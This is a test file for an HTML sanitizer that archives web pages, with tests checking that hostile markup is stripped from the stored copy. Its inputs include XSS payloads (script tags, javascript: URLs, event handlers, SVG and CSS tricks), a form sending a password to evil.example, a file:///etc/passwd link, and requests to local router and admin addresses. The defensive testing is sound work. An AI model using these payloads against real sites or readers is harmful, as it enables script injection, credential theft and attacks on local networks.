import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeForArchive } from '../../server/services/parse/index.js';
import { cleanCss } from '../../server/services/parse/archive-css.js';

// Hostile pages turned into permanent copies: whatever the page tries, the stored copy (read back by
// a standards-conforming parser) runs nothing, navigates nowhere by itself, and makes the reader's
// browser fetch nothing from their own machine or network.

const PAGE_URL = 'https://news.example.com/2026/story.html';

async function copyOf(html: string, pageUrl = PAGE_URL): Promise<Document> {
  return new JSDOM(await sanitizeForArchive(html, pageUrl)).window.document;
}

/** Every URL-valued attribute and CSS text in the copy, lower-cased. */
function everything(document: Document): string {
  const parts: string[] = [];
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) parts.push(`${element.localName} ${attribute.name}=${attribute.value}`);
    if (element.localName === 'style') parts.push(element.textContent ?? '');
  }
  return parts.join('\n').toLowerCase();
}

describe('hostile copies', () => {
  it('scripts, in every spelling, are gone with their code', async () => {
    const doc = await copyOf(`<html><head><script>steal()</script><SCRIPT SRC="https://evil.example/x.js"></SCRIPT></head>
      <body><p>Story</p><script type="module">import('https://evil.example/m.js')</script>
      <div><scr<script>ipt>alert(1)</script></div><template><script>later()</script></template></body></html>`);
    expect(doc.querySelectorAll('script, template')).toHaveLength(0);
    expect(doc.documentElement.outerHTML).not.toMatch(/steal\(\)|later\(\)|evil\.example/);
    expect(doc.body.textContent).toContain('Story');
  });

  it('event handlers are removed from every element, the text stays', async () => {
    const doc = await copyOf(`<body onload="a()"><h1 onclick="b()" ONMOUSEOVER="c()">Headline</h1>
      <img src="https://news.example.com/p.png" onerror="d()"><details open ontoggle="e()"><summary>More</summary>Body</details></body>`);
    for (const element of doc.querySelectorAll('*')) {
      for (const attribute of element.attributes) expect(attribute.name.startsWith('on'), `${element.localName} ${attribute.name}`).toBe(false);
    }
    expect(doc.querySelector('h1')!.textContent).toBe('Headline');
    expect(doc.querySelector('img')!.getAttribute('src')).toBe('https://news.example.com/p.png');
  });

  it('links keep only http(s) and mailto targets and open nothing with the copy as opener', async () => {
    const doc = await copyOf(`<body>
      <a id="js" href="javascript:alert(1)">1</a><a id="js2" href=" &#x6A;ava&#x09;script:alert(2)">2</a>
      <a id="vb" href="vbscript:msgbox(3)">3</a><a id="data" href="data:text/html,&lt;script&gt;alert(4)&lt;/script&gt;">4</a>
      <a id="rel" href="next.html">next</a><a id="abs" href="https://other.example/x">other</a><a id="mail" href="mailto:ed@news.example.com">mail</a>
      <a id="frag" href="#notes">notes</a><a id="file" href="file:///etc/passwd">file</a></body>`);
    const href = (id: string) => doc.getElementById(id)!.getAttribute('href');
    for (const id of ['js', 'js2', 'vb', 'data', 'file']) expect(href(id), id).toBeNull();
    expect(href('rel')).toBe('next.html');
    expect(href('abs')).toBe('https://other.example/x');
    expect(href('mail')).toBe('mailto:ed@news.example.com');
    expect(href('frag')).toBe('#notes');
    for (const a of doc.querySelectorAll('a[href]')) expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    expect(doc.getElementById('js')!.textContent).toBe('1'); // the words stay, as plain text
  });

  it('images only from http(s) or data:image, never from the reader\'s machine or network', async () => {
    const doc = await copyOf(`<body>
      <img id="ok" src="photo.jpg" srcset="photo-2x.jpg 2x, http://127.0.0.1:9000/admin?delete=1 3x, https://cdn.example/p.jpg 4x">
      <img id="inline" src="data:image/png;base64,iVBORw0KGgo=">
      <img id="html" src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
      <img id="svgdoc" src="data:image/svg+xml,<svg onload=alert(1)>">
      <img id="loop" src="http://127.0.0.1:8080/router/reboot"><img id="lan" src="http://192.168.1.1/cfg"><img id="v6" src="http://[::1]/x">
      <img id="localhost" src="http://localhost:631/admin"><img id="js" src="javascript:alert(1)">
      <img id="allbad" srcset="http://127.0.0.1/a.png 1x, http://localhost/b.png 2x"></body>`);
    const img = (id: string) => doc.getElementById(id)!;
    expect(img('ok').getAttribute('src')).toBe('photo.jpg');
    expect(img('ok').getAttribute('srcset')).toBe('photo-2x.jpg 2x, https://cdn.example/p.jpg 4x');
    expect(img('inline').getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
    // an SVG data image cannot run script when shown by <img>; HTML data is refused
    expect(img('html').hasAttribute('src')).toBe(false);
    for (const id of ['loop', 'lan', 'v6', 'localhost', 'js']) expect(img(id).hasAttribute('src'), id).toBe(false);
    expect(img('allbad').hasAttribute('srcset')).toBe(false);
  });

  it('a page served from a local address keeps its own images (same host), not other local hosts', async () => {
    const doc = await copyOf('<img id="own" src="/chart.png"><img id="other" src="http://127.0.0.1:9999/x.png">', 'http://127.0.0.1:4000/page');
    expect(doc.getElementById('own')!.getAttribute('src')).toBe('/chart.png');
    expect(doc.getElementById('other')!.hasAttribute('src')).toBe(false);
  });

  it('SVG and MathML are dropped whole, with their scripts, handlers and animations', async () => {
    const doc = await copyOf(`<body><p>Before</p><svg onload="alert(1)"><script>alert(2)</script>
      <a xlink:href="javascript:alert(3)"><rect width="5" height="5"/></a><set attributeName="href" to="javascript:alert(4)"/>
      <foreignObject><iframe src="javascript:alert(5)"></iframe></foreignObject><text>svg words</text></svg>
      <math><mtext><style><img src=x onerror=alert(6)></style></mtext></math><p>After</p></body>`);
    expect(doc.querySelectorAll('svg, math, script, iframe, set, rect, img, foreignObject')).toHaveLength(0);
    expect(doc.documentElement.outerHTML).not.toMatch(/alert/);
    expect([...doc.querySelectorAll('p')].map((p) => p.textContent)).toEqual(['Before', 'After']);
  });

  it('frames, plugins, forms, meta refresh and the page\'s own <base> are gone; our base and CSP are first', async () => {
    const doc = await copyOf(`<html><head><meta http-equiv="refresh" content="0;url=javascript:alert(1)">
      <meta http-equiv="Content-Security-Policy" content="script-src *"><base href="https://evil.example/">
      <base href="javascript:alert(2)//"><link rel="import" href="https://evil.example/x.html"><link rel="stylesheet" href="http://127.0.0.1/s.css">
      </head><body><iframe src="https://evil.example/"></iframe><iframe srcdoc="&lt;script&gt;alert(3)&lt;/script&gt;"></iframe>
      <object data="x.swf"></object><embed src="x.swf"><applet code="X"></applet><portal src="https://evil.example/"></portal>
      <form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(4)">Send</button></form>
      <p>Kept</p></body></html>`);
    expect(doc.querySelectorAll('iframe, object, embed, applet, portal, form, input, button, link')).toHaveLength(0);
    const metas = [...doc.querySelectorAll('meta')];
    expect(metas.map((m) => m.getAttribute('http-equiv'))).toEqual([null, 'Content-Security-Policy']);
    expect(metas[1]!.getAttribute('content')).toContain("script-src 'none'");
    // the page's first http(s) <base> is where relative links resolve; it is written by us, once
    expect([...doc.querySelectorAll('base')].map((b) => b.getAttribute('href'))).toEqual(['https://evil.example/']);
    expect(doc.head.firstElementChild!.getAttribute('charset')).toBe('utf-8');
    expect(everything(doc)).not.toMatch(/javascript:|alert|127\.0\.0\.1/);
    expect(doc.querySelector('p')!.textContent).toBe('Kept');
  });

  it('CSS fetches nothing: url() and @import are stripped from <style> and style attributes, escaped tricks drop the CSS', async () => {
    const doc = await copyOf(`<html><head><style>
        @import url("http://127.0.0.1/a.css"); @import 'http://localhost/b.css';
        body { color: #222; background: url(http://127.0.0.1:8080/ping) }
        h1 { background-image: url( 'http://192.168.0.1/x' ) }
        @font-face { font-family: F; src: url(http://127.0.0.1/f.woff) }
      </style><style>p { background: u\\72l(http://127.0.0.1/escaped) }</style>
      <style>p { background-image: image-set("http://127.0.0.1/set.png" 1x) }</style></head>
      <body><h1 style="color: red; background: url('http://127.0.0.1/inline')">T</h1>
      <p style="width: expression(alert(1))">E</p><p style="background:\\75rl(http://127.0.0.1/x)">U</p>
      <p style="font-weight: bold">B</p></body></html>`);
    const css = everything(doc);
    expect(css).not.toMatch(/url\(|@import|127\.0\.0\.1|localhost|192\.168|image-set|expression/);
    const styles = [...doc.querySelectorAll('style')].map((s) => s.textContent ?? '');
    expect(styles[0]).toContain('color: #222');
    expect(styles.slice(1)).toEqual(['', '']); // escaped or string-URL tricks: the whole sheet goes
    expect(doc.querySelector('h1')!.getAttribute('style')).toMatch(/^color: red;/);
    const ps = [...doc.querySelectorAll('p')];
    expect(ps.map((p) => p.getAttribute('style'))).toEqual([null, null, 'font-weight: bold']);
  });

  it('cleanCss keeps ordinary CSS as written', () => {
    const css = 'a { color: blue } .x::before { content: "\\201C" } @media (max-width: 40em) { body { margin: 0 } }';
    expect(cleanCss(css)).toBe(css);
    expect(cleanCss('div { background: URL(x.png) no-repeat }')).toBe('div { background: none no-repeat }');
    expect(cleanCss('div { background: u/**/rl(x.png) }')).toBe('div { background: url(x.png) }'.replace('url(x.png)', 'none'));
  });
});
